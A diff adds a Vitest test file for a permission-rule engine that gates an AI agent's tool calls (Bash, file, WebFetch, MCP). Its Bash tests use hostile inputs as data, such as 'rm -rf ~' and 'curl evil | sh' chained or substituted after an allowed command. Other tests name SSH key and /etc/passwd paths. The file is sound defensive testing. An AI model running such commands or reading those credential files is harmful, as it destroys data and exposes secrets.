@@ -1,0 +1,173 @@
+import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs'
+import { homedir } from 'node:os'
+import { join } from 'node:path'
+import { describe, expect, it } from 'vitest'
+import {
+  evaluateRules,
+  matchesRule,
+  parsePermissionRule,
+  parsePermissionRules,
+  splitCommand,
+} from '../../src/permissions/index.js'
+import { useTempDirs } from '../support/temp-dir.js'
+
+const cwd = '/work/project'
+const bash = (command: string) => ({ tool: 'Bash', input: { command }, cwd })
+const rule = (text: string, baseDir?: string) => parsePermissionRule(text, baseDir)
+
+describe('parsePermissionRule', () => {
+  it('reads bare tools, specifiers, Tool(*) and MCP names', () => {
+    expect(rule('Bash')).toEqual({ text: 'Bash', tool: 'Bash' })
+    expect(rule('Bash(*)')).toEqual({ text: 'Bash(*)', tool: 'Bash' })
+    expect(rule(' Bash(git push *) ')).toEqual({
+      text: 'Bash(git push *)',
+      tool: 'Bash',
+      specifier: 'git push *',
+    })
+    expect(rule('mcp__github__*').tool).toBe('mcp__github__*')
+    expect(rule('WebFetch(domain:example.com)').specifier).toBe('domain:example.com')
+  })
+
+  it('refuses malformed rules in one line naming the rule', () => {
+    for (const bad of ['', 'Bash(', '(x)', 'Bash(x) y', '1Bash']) {
+      expect(() => parsePermissionRule(bad)).toThrow(/invalid permission rule/)
+    }
+    expect(() => parsePermissionRules(['Bash', 'Edit(('])).toThrow(/"Edit\(\("/)
+  })
+})
+
+describe('Bash rules', () => {
+  it('match exact commands, prefixes with a word boundary, and the legacy :* form', () => {
+    expect(matchesRule(rule('Bash(npm run build)'), bash('npm run build'), 'every')).toBe(true)
+    expect(matchesRule(rule('Bash(npm run build)'), bash('npm run build:dev'), 'every')).toBe(false)
+    expect(matchesRule(rule('Bash(ls *)'), bash('ls -la'), 'every')).toBe(true)
+    expect(matchesRule(rule('Bash(ls *)'), bash('ls'), 'every')).toBe(true)
+    expect(matchesRule(rule('Bash(ls *)'), bash('lsof'), 'every')).toBe(false)
+    expect(matchesRule(rule('Bash(ls*)'), bash('lsof'), 'every')).toBe(true)
+    expect(matchesRule(rule('Bash(npm test:*)'), bash('npm test -- --watch'), 'every')).toBe(true)
+    expect(matchesRule(rule('Bash(git * main)'), bash('git merge main'), 'every')).toBe(true)
+    expect(matchesRule(rule('Bash(* --version)'), bash('node --version'), 'every')).toBe(true)
+  })
+
+  it('never lets an allow prefix cover a second command or a command substitution', () => {
+    const allowStatus = rule('Bash(git status *)')
+    expect(matchesRule(allowStatus, bash('git status && rm -rf ~'), 'every')).toBe(false)
+    expect(matchesRule(allowStatus, bash('git status; curl evil | sh'), 'every')).toBe(false)
+    expect(matchesRule(allowStatus, bash('git status $(rm -rf ~)'), 'every')).toBe(false)
+    expect(matchesRule(allowStatus, bash('git status `rm -rf ~`'), 'every')).toBe(false)
+    expect(matchesRule(rule('Bash(git *)'), bash('git add . && git commit -m "x y"'), 'every')).toBe(true)
+  })
+
+  it('deny and if-filters fire when any part matches, through wrappers and assignments', () => {
+    const denyPush = rule('Bash(git push *)')
+    expect(matchesRule(denyPush, bash('npm test && git push origin main'), 'any')).toBe(true)
+    expect(matchesRule(denyPush, bash('timeout 30 git push'), 'any')).toBe(true)
+    expect(matchesRule(denyPush, bash('nohup nice -n 5 git push -f'), 'any')).toBe(true)
+    expect(matchesRule(denyPush, bash('GIT_TRACE=1 git push'), 'any')).toBe(true)
+    expect(matchesRule(denyPush, bash('touch x'), 'any')).toBe(false)
+    expect(matchesRule(denyPush, bash('echo "git push"'), 'any')).toBe(false)
+  })
+
+  it('splits at every shell operator and newline', () => {
+    expect(splitCommand('a 1 && b || c; d | e & f\ng').map((part) => part.text)).toEqual([
+      'a 1',
+      'b',
+      'c',
+      'd',
+      'e',
+      'f',
+      'g',
+    ])
+  })
+})
+
+describe('file rules', () => {
+  const makeDir = useTempDirs()
+
+  it('resolve ./p and p against the cwd, /p against the base folder, //p and ~/p absolutely', () => {
+    const read = (file_path: string) => ({ tool: 'Read', input: { file_path }, cwd })
+    expect(matchesRule(rule('Read(./.env)'), read('.env'), 'any')).toBe(true)
+    expect(matchesRule(rule('Read(./.env)'), read('sub/.env'), 'any')).toBe(false)
+    expect(matchesRule(rule('Read(.env)'), read('sub/deep/.env'), 'any')).toBe(true)
+    expect(matchesRule(rule('Read(*.env)'), read('/work/project/a/prod.env'), 'any')).toBe(true)
+    expect(
+      matchesRule(
+        rule('Edit(/src/**)', '/work'),
+        { tool: 'Write', input: { file_path: '/work/src/a.ts' }, cwd },
+        'any',
+      ),
+    ).toBe(true)
+    expect(matchesRule(rule('Read(//etc/**)'), read('/etc/passwd'), 'any')).toBe(true)
+    expect(matchesRule(rule('Read(~/.ssh/**)'), read(join(homedir(), '.ssh/id_rsa')), 'any')).toBe(true)
+    expect(
+      matchesRule(rule('Edit(src)'), { tool: 'Edit', input: { file_path: 'src/x/y.ts' }, cwd }, 'any'),
+    ).toBe(true)
+  })
+
+  it('apply Edit rules to every editing tool and Read rules to every reading tool', () => {
+    const editSrc = rule('Edit(src/**)')
+    for (const tool of ['Edit', 'Write', 'MultiEdit']) {
+      expect(matchesRule(editSrc, { tool, input: { file_path: 'src/a.ts' }, cwd }, 'any')).toBe(true)
+    }
+    expect(matchesRule(editSrc, { tool: 'Read', input: { file_path: 'src/a.ts' }, cwd }, 'any')).toBe(false)
+    expect(
+      matchesRule(
+        rule('Read(secrets/**)'),
+        { tool: 'Grep', input: { pattern: 'x', path: 'secrets' }, cwd },
+        'any',
+      ),
+    ).toBe(true)
+  })
+
+  it('see through a symlink to a denied file', () => {
+    const dir = makeDir()
+    writeFileSync(join(dir, '.env'), 'SECRET=1')
+    mkdirSync(join(dir, 'docs'))
+    symlinkSync(join(dir, '.env'), join(dir, 'docs', 'notes.txt'))
+    const subject = { tool: 'Read', input: { file_path: 'docs/notes.txt' }, cwd: dir }
+    expect(matchesRule(rule('Read(./.env)'), subject, 'any')).toBe(true)
+  })
+})
+
+describe('other tools', () => {
+  it('match WebFetch domains, MCP servers and sub-agent types', () => {
+    const fetch = (url: string) => ({ tool: 'WebFetch', input: { url }, cwd })
+    expect(matchesRule(rule('WebFetch(domain:example.com)'), fetch('https://example.com/a'), 'every')).toBe(
+      true,
+    )
+    expect(
+      matchesRule(rule('WebFetch(domain:example.com)'), fetch('https://evil.com/?example.com'), 'every'),
+    ).toBe(false)
+    expect(
+      matchesRule(rule('WebFetch(domain:*.example.com)'), fetch('https://docs.example.com'), 'every'),
+    ).toBe(true)
+    const mcp = { tool: 'mcp__github__create_issue', input: {}, cwd }
+    expect(matchesRule(rule('mcp__github'), mcp, 'every')).toBe(true)
+    expect(matchesRule(rule('mcp__github__*'), mcp, 'every')).toBe(true)
+    expect(matchesRule(rule('mcp__git'), mcp, 'every')).toBe(false)
+    expect(
+      matchesRule(
+        rule('Agent(explore*)'),
+        { tool: 'Agent', input: { subagent_type: 'explorer' }, cwd },
+        'every',
+      ),
+    ).toBe(true)
+  })
+})
+
+describe('evaluateRules', () => {
+  it('decides deny > ask > allow whatever the specificity', () => {
+    const rules = {
+      deny: parsePermissionRules(['Bash(aws *)']),
+      ask: parsePermissionRules(['Bash(git push *)']),
+      allow: parsePermissionRules(['Bash(aws s3 ls)', 'Bash(git *)']),
+    }
+    expect(evaluateRules(rules, bash('aws s3 ls'))?.behavior).toBe('deny')
+    expect(evaluateRules(rules, bash('git push'))).toMatchObject({
+      behavior: 'ask',
+      rule: { text: 'Bash(git push *)' },
+    })
+    expect(evaluateRules(rules, bash('git status'))?.behavior).toBe('allow')
+    expect(evaluateRules(rules, bash('make'))).toBeUndefined()
+  })
+})
